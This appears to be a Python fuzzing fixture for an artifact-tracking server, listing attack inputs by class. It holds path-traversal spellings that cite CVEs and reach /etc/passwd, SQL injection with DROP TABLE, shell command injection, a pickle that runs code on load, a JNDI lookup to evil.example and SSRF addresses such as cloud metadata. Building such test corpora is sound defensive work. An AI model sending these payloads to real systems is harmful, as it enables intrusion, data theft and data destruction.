"""What attackers write where a name, a value or a path belongs, by the class of the attack.

`@SECRET@` stands for the path of a file beside the artifact root, `@CANARY@` for one that only a payload that is run
would make.
"""

import base64
import os
import pickle
from collections.abc import Callable
from typing import Final
from urllib.parse import quote

SECRET: Final = "@SECRET@"
CANARY: Final = "@CANARY@"


class _Made:
    """Makes a folder when it is unpickled.

    Args:
        path: The folder.
    """

    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[object, ...]:
        return os.mkdir, (self._path,)


def pickled(path: str) -> bytes:
    """Return a pickle that makes a folder when it is loaded, as models in CVE-2024-37052 to 37060 run their code."""
    return pickle.dumps(_Made(path))


def _percent(text: str, characters: str, times: int = 1) -> str:
    for _ in range(times):
        text = "".join(f"%{ord(one):02x}" if one in characters else one for one in text)
        characters = "%"
    return text


SPELLINGS: Final[dict[str, Callable[[str], str]]] = {
    "as it is": lambda path: path,
    "dots escaped": lambda path: _percent(path, "."),
    "slashes escaped": lambda path: _percent(path, "/"),
    "escaped": lambda path: _percent(path, "./"),
    "escaped twice (CVE-2024-1558, CVE-2024-1560)": lambda path: _percent(path, "./", 2),
    "escaped three times": lambda path: _percent(path, "./", 3),
    "escaped in capitals": lambda path: path.replace(".", "%2E").replace("/", "%2F"),
    "overlong UTF-8": lambda path: path.replace(".", "%c0%ae").replace("/", "%c0%af"),
    "%u escapes": lambda path: path.replace(".", "%u002e").replace("/", "%u2215"),
    "back-slashes (CVE-2023-6831)": lambda path: path.replace("/", "\\"),
    "back-slashes escaped": lambda path: path.replace("/", "%5c"),
    "doubled": lambda path: path.replace("../", "....//"),
    "nested": lambda path: path.replace("../", "..././"),
    "path parameters (CVE-2024-1593)": lambda path: path.replace("../", "..;/"),
    "behind a fragment (CVE-2024-1483, CVE-2024-3848)": lambda path: f"model#/{path}",
    "behind a query (CVE-2024-1594, CVE-2024-2928)": lambda path: f"model?/{path}",
    "behind parameters (CVE-2024-1593)": lambda path: f"model;/{path}",
    "behind a folder": lambda path: f"model/{path}",
    "before a NUL": lambda path: f"{path}\0.txt",
    "full-width": lambda path: path.replace(".", "．").replace("/", "／"),
    "with spaces": lambda path: path.replace("../", ".. /"),
}

PLACES: Final = (
    *("../" * depth + "secret.txt" for depth in (1, 2, 4, 5, 9)),
    "../" * 9 + "etc/passwd",
    SECRET,
    "/etc/passwd",
)

ROOTS: Final = (
    "file://",
    "file:",
    "FILE://",
    "file://localhost",
    "file://.",
    "mlflow-artifacts:",
    "mlflow-artifacts://localhost",
    "mlflow-artifacts:/0/..",
    "runs:/0/..",
    "models:/m/1/..",
    "http://localhost/api/2.0/mlflow-artifacts/artifacts",
    "s3://bucket",
    "jar:file:",
    "local://",
    "dbfs:",
    "ftp://localhost",
    "\\\\localhost\\c$",
    "C:",
)

TRAVERSAL: Final = tuple(
    dict.fromkeys(
        (
            *(spell(place) for place in PLACES for spell in SPELLINGS.values()),
            *(
                f"{root}{place if place.startswith(('/', SECRET)) else '/' + place}"
                for root in ROOTS
                for place in PLACES
            ),
        )
    )
)

TEXTS: Final[dict[str, tuple[str, ...]]] = {
    "path traversal": TRAVERSAL,
    "header injection": (
        "a\r\nX-Injected: 1",
        "a\nX-Injected: 1",
        "a\rX-Injected: 1",
        "a\r\n\r\n<script>alert(1)</script>",
        "%0d%0aX-Injected:%201",
        "%250d%250aX-Injected:%201",
        # A byte of each of these, cut out carelessly, is a line feed.
        "\u560d\u560aX-Injected: 1",
        "a\u2028X-Injected: 1",
        "a\x85X-Injected: 1",
        "a\x0bX-Injected: 1",
        'a"; filename="evil.html',
        "a\r\n\tX-Injected: 1",
    ),
    "stored scripts": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "<svg/onload=alert(1)>",
        "'-alert(1)-'",
        "javascript:alert(1)",
        "[x](javascript:alert(1))",
        '![x](x"onerror="alert(1))',
        '<iframe srcdoc="<script>parent.alert(1)</script>">',
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "</textarea></script><script>alert(1)</script>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\\u003cscript\\u003ealert(1)",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "＜script＞alert(1)＜/script＞",
    ),
    "templates and formats": (
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{0.__class__.__init__.__globals__}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "%(levelname)s %s %n %d",
        "${jndi:ldap://evil.example/a}",
        "{{constructor.constructor('alert(1)')()}}",
    ),
    "SQL": (
        "' OR '1'='1",
        "'; DROP TABLE trialog_runs; --",
        '" OR "1"="1',
        "`) UNION SELECT name, sql FROM sqlite_master --",
        "1; ATTACH DATABASE '@CANARY@' AS x",
        "x' AND load_extension('@CANARY@') --",
        "x' AND 1=randomblob(1000000000) --",
        "\\'; SELECT 1; --",
        "%' AND 1=(SELECT count(*) FROM sqlite_master) AND '%'='",
        "/**/OR/**/1=1",
        "a')) OR (('a'='a",
        "1 DESC, (SELECT 1)",
        "metrics.`a` > 0 UNION SELECT 1",
        "attributes.run_id = 'x' OR 1=1",
        "tags.`a' OR '1'='1` = 'b'",
        "name LIKE '%' || (SELECT sql FROM sqlite_master) || '%'",
        "'; SELECT pg_sleep(3600); --",
        "' || (SELECT current_setting('data_directory')) || '",
        "'; COPY (SELECT 1) TO PROGRAM 'touch @CANARY@'; --",
        "$$; DROP TABLE trialog_runs; $$",
        "E'\\\\x27 OR 1=1",
        "a'::regclass --",
        "%s %(name)s :name {} ?",
    ),
    "commands": (
        "$(touch @CANARY@)",
        "`touch @CANARY@`",
        "; touch @CANARY@",
        "| touch @CANARY@",
        "x\ntouch @CANARY@",
        "--output=@CANARY@",
        "-oProxyCommand=touch @CANARY@",
        "__import__('os').system('touch @CANARY@')",
    ),
    "deserialisation": (
        base64.b64encode(pickled(CANARY)).decode(),
        "cos\nmkdir\n(S'@CANARY@'\ntR.",
        '!!python/object/apply:builtins.open ["@CANARY@", "w"]',
        "!!python/object/new:os.system [touch @CANARY@]",
        "!!python/module:trialog",
        '{"py/object": "os.system", "py/reduce": ["touch @CANARY@"]}',
        '{"__reduce__": ["os.system", ["touch @CANARY@"]]}',
        '{"loader_module": "os", "python_function": {"loader_module": "subprocess"}}',
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        'O:8:"stdClass":0:{}',
        '<!DOCTYPE x [<!ENTITY y SYSTEM "file://@SECRET@">]><x>&y;</x>',
    ),
    "server-side requests": (
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:1/",
        "http://[::ffff:127.0.0.1]:1/",
        "http://2130706433:1/",
        "http://0x7f.1:1/",
        "http://evil.example\\@127.0.0.1:1/",
        "https://localhost:1/#@evil.example",
        "gopher://127.0.0.1:1/_GET%20/",
        "dict://127.0.0.1:1/info",
        "ldap://127.0.0.1:1/",
        "\\\\127.0.0.1\\share",
        "git+ssh://127.0.0.1/x",
        "sqlite:///@CANARY@",
    ),
    "strange text": (
        "a\0b",
        "\0",
        "\ud800",
        "a\udfff",
        "\ufeffa",
        "\u202egpj.exe",
        "a\u200b\u200d",
        "e" + "\u0301" * 2000,
        "\U0010ffff",
        "ﷺ" * 500,
        "İ",
        "ß" * 300,
        "\x1b[2J\x1b]0;owned\x07",
        "\x7f\x08\x08",
    ),
    "sizes": (
        "",
        " ",
        "a" * 255,
        "a" * 20_001,
        "[" * 5000,
        '{"a":' * 5000,
        "(" * 2000,
        "NOT " * 2000,
        "9" * 400,
        "1e999",
        "-9223372036854775809",
        "NaN",
        "a.b = 1 AND " * 500 + "a.b = 1",
    ),
    "patterns that burn time": (
        "(a+)+$",
        "(a|a)*b",
        "^(([a-z])+.)+[A-Z]([a-z])+$",
        "(.*){1000}",
        "((a{100}){100}){100}",
        "tags.a RLIKE '(a+)+$'",
        "tags.a LIKE '" + "%a" * 500 + "%b'",
        "tags.a ILIKE '" + "%_" * 500 + "'",
        "%" * 2000,
        "x" * 300 + "(?=a)",
    ),
    "log lines": (
        "x\n2026-01-01T00:00:00.000Z INFO trialog.server forged",
        "x\r2026-01-01T00:00:00.000Z INFO trialog.server forged",
        "x\u20282026-01-01T00:00:00.000Z INFO trialog.server forged",
    ),
    "names with a meaning": (
        "__proto__",
        "constructor",
        "__class__",
        "None",
        "null",
        "undefined",
        "-1",
        "0",
        "latest",
        ".",
        "..",
        "~",
        "~root",
        "$HOME",
        "con",
        "nul.txt",
        ".trialog-staging/uploads",
        "trialog.db",
        "sqlite_master",
        "../trialog.db",
    ),
}


def escaped(text: str) -> str:
    """Return a text as it stands in an address."""
    return quote(text, safe="", errors="surrogatepass")
